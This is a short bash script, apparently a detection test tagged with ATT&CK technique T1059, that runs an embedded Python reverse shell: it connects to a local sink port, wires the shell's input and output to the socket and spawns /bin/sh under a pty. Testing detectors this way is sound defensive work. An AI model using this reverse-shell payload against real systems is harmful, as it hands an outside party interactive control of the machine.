#!/usr/bin/env bash
# Python connects out and hands an interactive shell a pseudo-terminal.
# expect: T1059
. "$(dirname "$0")/../lib.sh"
c2=$(vs_sink)
timeout -s KILL 3 python3 - "$c2" <<'PY' >/dev/null 2>&1
import os, pty, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
pty.spawn(["/bin/sh"])
PY
true
